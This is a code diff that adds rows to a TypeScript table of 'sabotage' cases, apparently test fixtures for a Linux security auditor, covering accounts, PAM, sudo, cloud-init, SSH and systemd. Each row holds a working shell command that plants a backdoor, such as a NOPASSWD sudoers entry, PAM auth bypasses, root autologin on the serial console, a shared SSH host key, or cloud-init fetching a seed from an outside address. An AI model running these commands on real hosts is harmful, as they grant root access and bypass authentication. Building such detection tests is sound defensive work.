@@ -45,9 +45,19 @@ export const accountRows: readonly Sabotage[] = [
     "an account's UID is root's in another spelling",
     "useradd deputy; sed -i 's/^deputy:x:[0-9]*/deputy:x:00/' /etc/passwd",
   ],
+  [
+    ["open-files:users"],
+    "an account's shell has the name of one that lets nobody in",
+    "mkdir /srv/b; cp /bin/bash /srv/b/false; useradd -M -d /nonexistent -s /srv/b/false deputy; echo 'deputy - nofile 99' >/etc/security/limits.d/zzz.conf",
+  ],
   [["accounts"], "an account has root's group", "usermod --gid 0 afterpay"],
   [["accounts"], "an account is in a group that sudo trusts", "gpasswd --add afterpay sudo"],
   [["accounts"], "an account can read every password", "gpasswd --add afterpay shadow"],
+  [
+    ["accounts"],
+    "accounts lead to root by a primary group, as an administrator, by a second name of a group, and by systemd (each is seen alone)",
+    "usermod --gid shadow afterpay; gpasswd -A afterpay sudo; groupadd -o -g 42 readers; mkdir /etc/userdb; echo '{}' >/etc/userdb/eve.user",
+  ],
   [["accounts"], "a second group has root's id", "groupadd --non-unique --gid 0 wheels"],
   [
     ["accounts"],
@@ -92,6 +102,11 @@ export const accountRows: readonly Sabotage[] = [
     "cp /usr/lib/x86_64-linux-gnu/security/pam_permit.so /srv/x.so; echo 'session optional /srv/x.so' >>/etc/pam.d/common-session",
   ],
   [
+    ["pam"],
+    "services ask only what everybody meets, and the refusal of one of them does not count",
+    "printf 'auth required pam_succeed_if.so uid >= 0\\n@include common-account\\n@include common-session\\n' >/etc/pam.d/login; printf 'auth optional pam_deny.so\\nauth required pam_permit.so\\n' >/etc/pam.d/chsh",
+  ],
+  [
     ["sudo"],
     "the application may become root",
     "echo 'afterpay ALL=(ALL) NOPASSWD:ALL' >/etc/sudoers.d/x; chmod 440 /etc/sudoers.d/x",
@@ -113,8 +128,8 @@ export const accountRows: readonly Sabotage[] = [
   ],
   [
     ["sudo"],
-    "another plugin decides",
-    "echo 'Plugin sudoers_policy /opt/policy.so' >/etc/sudo.conf",
+    "plugins of a known name come from elsewhere, and sudo starts a program for everybody (each is seen alone)",
+    "printf 'Plugin sudoers_policy /opt/sudoers.so\\nPath plugin_dir /opt/\\n' >/etc/sudo.conf; printf 'Defaults group_plugin=\"/opt/x.so\"\\nDefaults mailerpath=/opt/x\\n' >/etc/sudoers.d/zz; chmod 440 /etc/sudoers.d/zz",
   ],
   [
     ["first-boot"],
@@ -130,6 +145,11 @@ export const accountRows: readonly Sabotage[] = [
     ["first-boot"],
     "cloud-init gives its rights to the application's account",
     "printf 'system_info:\\n  default_user:\\n    name: afterpay\\n' >/etc/cloud/cloud.cfg.d/99-x.cfg",
+  ],
+  [
+    ["first-boot"],
+    "cloud-init starts programs, installs packages, reports elsewhere and reads another source (each is seen alone)",
+    "printf '%s\\n' 'snap: { commands: [[sh, /srv/x]] }' 'random_seed: { command: [sh, /srv/x] }' 'output: { all: \"| tee -a /var/log/cloud-init-output.log; sh /srv/x\" }' 'packages: [nmap]' 'phone_home: { url: \"http://x/\" }' 'datasource: { NoCloud: { seedfrom: \"http://198.51.100.9/\" } }' >/etc/cloud/cloud.cfg.d/99-x.cfg",
   ],
   [
     ["first-boot"],
@@ -163,6 +183,11 @@ export const accountRows: readonly Sabotage[] = [
     ["ssh:passwords"],
     "a file says otherwise, although another comes first",
     ssh("PasswordAuthentication yes", "99-later.conf"),
+  ],
+  [
+    ["ssh:passwords"],
+    "SSH takes tickets, and asks neither modes nor PAM (each is seen alone)",
+    ssh("GSSAPIAuthentication yes\nStrictModes no\nUsePAM no"),
   ],
   [["ssh:passwords"], "SSH trusts what other servers say", ssh("HostbasedAuthentication=yes")],
   [
@@ -223,6 +248,11 @@ export const accountRows: readonly Sabotage[] = [
     "a key came after the lock",
     "install -d -m 700 -o admin -g admin /home/admin/.ssh; echo 'ssh-ed25519 AAAA x' >/home/admin/.ssh/authorized_keys",
   ],
+  [
+    ["ssh:keys"],
+    "every server has the same host key, and every new account a key (each is seen alone)",
+    `ssh-keygen -qt ed25519 -N '' -f /usr/share/hostkey; ${ssh("HostKey /usr/share/hostkey")}; install -D /usr/share/hostkey.pub /etc/skel/.ssh/authorized_keys`,
+  ],
   [["ssh:keys"], "keys are elsewhere", ssh("AuthorizedKeysFile /etc/ssh/keys/%u", "99-x.conf")],
   [
     ["ssh:keys"],
@@ -261,6 +291,11 @@ export const accountRows: readonly Sabotage[] = [
     ["ssh:server"],
     "a second SSH server starts for another file",
     "printf '[Service]\\nExecStart=/usr/sbin/sshd -D -f /opt/sshd_config\\n[Install]\\nWantedBy=multi-user.target\\n' >/etc/systemd/system/maintenance.service",
+  ],
+  [
+    ["ssh:server"],
+    "consoles need no login, and a unit of another folder starts a second SSH server (each is seen alone)",
+    "systemctl enable debug-shell; mkdir -p /etc/systemd/system/serial-getty@ttyS0.service.d /etc/systemd/system.control; printf '[Service]\\nExecStart=\\nExecStart=-/sbin/agetty --autologin root - $TERM\\n' >/etc/systemd/system/serial-getty@ttyS0.service.d/x.conf; printf '[Service]\\nExecStart=/usr/sbin/sshd -D -f /opt/x\\n' >/etc/systemd/system.control/maintenance.service",
   ],
   [
     ["ssh:server"],
